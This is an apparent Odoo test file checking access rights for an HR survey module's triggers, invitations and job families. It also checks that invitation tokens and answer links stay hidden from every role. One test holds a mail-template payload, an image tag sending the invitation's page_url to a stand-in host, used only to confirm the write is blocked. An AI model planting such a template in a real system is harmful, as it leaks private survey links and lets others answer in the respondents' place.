"""Interviewers and officers see nothing of it; administrators all but the links."""

from odoo.exceptions import AccessError, UserError
from odoo.tests import users
from odoo.tools import mute_logger

from .common import MANAGER
from .experience_common import AskCase

OPERATIONS = ('read', 'write', 'create', 'unlink')


class TestRights(AskCase):

    def setUp(self):
        super().setUp()
        self.invitation = self.make_invitations(1)
        self.draft = self.make_trigger()
        self.other = self.env['res.company'].create({'name': "Next Door"})

    def rights(self, model):
        """Of the user of the test."""
        return [name for name in OPERATIONS if self.env[model].has_access(name)]

    def mine(self, records):
        return records.with_env(self.env)

    # -- Interviewer and officer -----------------------------------------------------------

    @users('ivan', 'rita')
    def test_others_have_no_rights(self):
        for model in ('hr.survey.trigger', 'hr.survey.invitation', 'hr.survey.preview', 'hr.survey.preview.line',
                      'hr.survey.preview.reason'):
            self.assertEqual(self.rights(model), [], model)
            with self.assertRaises(AccessError):
                self.env[model].search([])

    @users('ivan', 'rita')
    def test_others_press_no_buttons(self):
        for name in ('action_start', 'action_pause', 'action_preview'):
            with self.assertRaises(AccessError):
                getattr(self.mine(self.draft), name)()
        for name in ('action_cancel', 'action_resend'):
            with self.assertRaises(AccessError):
                getattr(self.mine(self.invitation), name)()

    @users('ivan', 'rita')
    def test_others_read_job_families(self):
        self.assertEqual(self.rights('hr.job.family'), ['read'])
        self.assertEqual(self.mine(self.family).name, "Engineering")

    # -- Administrator ---------------------------------------------------------------------

    @users('mona')
    def test_administrators_set_up_triggers(self):
        self.assertEqual(self.rights('hr.survey.trigger'), list(OPERATIONS))
        trigger = self.env['hr.survey.trigger'].create({
            'name': "Mine", 'company_id': self.company.id, 'survey_id': self.survey.id, 'state': 'running'})
        self.assertEqual(trigger.state, 'draft', "it is started by its button")
        trigger.write({'state': 'running'})
        self.assertEqual(trigger.state, 'draft')
        trigger.action_start()
        self.assertEqual(trigger.state, 'running')
        self.assertTrue(trigger.standing)
        trigger.action_pause()
        self.assertEqual(trigger.state, 'paused')
        self.assertTrue(trigger.action_preview()['res_id'])
        trigger.unlink()

    @users('mona')
    def test_administrators_read_invitations(self):
        self.assertEqual(self.rights('hr.survey.invitation'), ['read'])
        self.assertTrue(self.mine(self.invitation).partner_id)
        self.mine(self.invitation).action_cancel()
        self.assertEqual(self.invitation.state, 'cancelled')

    @users('mona')
    def test_administrators_sort_jobs(self):
        self.assertEqual(self.rights('hr.job.family'), list(OPERATIONS))

    @users('mona')
    def test_nobody_reads_a_link(self):
        """Whoever has it can answer in place of the person, and can see whether it was used."""
        self.assertNobodyReadsLink()

    def test_nor_an_administrator_of_odoo(self):
        self.make_user('gina', f'{MANAGER},base.group_system')
        self.env = self.env(user=self.env['res.users'].search([('login', '=', 'gina')]))
        self.assertNobodyReadsLink()

    def assertNobodyReadsLink(self):
        invitation = self.mine(self.invitation)
        for name in ('token', 'page_url', 'reminded'):
            with self.assertRaises(AccessError):
                invitation.read([name])
            with self.assertRaises(UserError):
                invitation.export_data([name])
            self.assertNotIn(name, invitation.fields_get())
        for domain in ([('token', 'like', 'a')], [('reminded', '=', True)]):
            with self.assertRaises(AccessError):
                invitation.search(domain)
        with self.assertRaises(AccessError):
            invitation.search([], order='token')
        with self.assertRaises(AccessError):
            invitation._read_group([], ['reminded'])

    @users('mona')
    def test_nor_through_the_preview_of_the_template(self):
        template = self.trigger.template_id.with_env(self.env)
        with self.assertRaises(UserError), mute_logger('odoo.addons.mail.models.mail_render_mixin'):
            template._render_field('body_html', self.mine(self.invitation).ids)

    # -- Companies -------------------------------------------------------------------------

    @users('ivan', 'rita')
    def test_others_do_not_write_the_mails(self):
        """Odoo lets every user write templates; these see the links of all who are asked."""
        self.let_write_templates()
        template = self.mine(self.draft.template_id)
        model = self.env['ir.model'].sudo()._get_id('hr.survey.invitation')
        with self.assertRaises(AccessError):
            template.write({'body_html': "<img t-att-src=\"'https://elsewhere.example/' + object.page_url\"/>"})
        with self.assertRaises(AccessError):
            self.env['mail.template'].create({'name': "Mine", 'model_id': model})
        mine = self.env['mail.template'].create({
            'name': "Mine", 'model_id': self.env['ir.model'].sudo()._get_id('hr.applicant')})
        with self.assertRaises(AccessError):
            mine.write({'model_id': model})

    def let_write_templates(self):
        """As Odoo does with all users, unless templates are restricted."""
        self.env.user.sudo().group_ids |= self.env.ref('mail.group_mail_template_editor')

    @users('mona')
    def test_administrators_write_the_mails(self):
        self.let_write_templates()
        template = self.mine(self.draft.template_id)
        template.subject = "Hello"
        self.assertEqual(template.subject, "Hello")

    @users('mona')
    def test_other_companies(self):
        trigger = self.make_trigger(self.other)
        invitation = self.make_invitations(1, company_id=self.other.id, trigger_id=trigger.id)
        family = self.env['hr.job.family'].sudo().create({'name': "Theirs", 'company_id': self.other.id})
        for records in (trigger, invitation, family):
            self.assertFalse(self.env[records._name].search([('id', 'in', records.ids)]))
            with self.assertRaises(AccessError):
                self.mine(records).check_access('read')

    @users('mona')
    def test_a_family_of_no_company_is_for_all(self):
        family = self.env['hr.job.family'].sudo().create({'name': "All"})
        self.assertEqual(self.env['hr.job.family'].search([('id', '=', family.id)]), family)

    @users('mona')
    def test_job_and_family_of_different_companies(self):
        family = self.env['hr.job.family'].sudo().create({'name': "Theirs", 'company_id': self.other.id})
        with self.assertRaises(UserError):
            self.job.family_id = family.with_env(self.job.env)
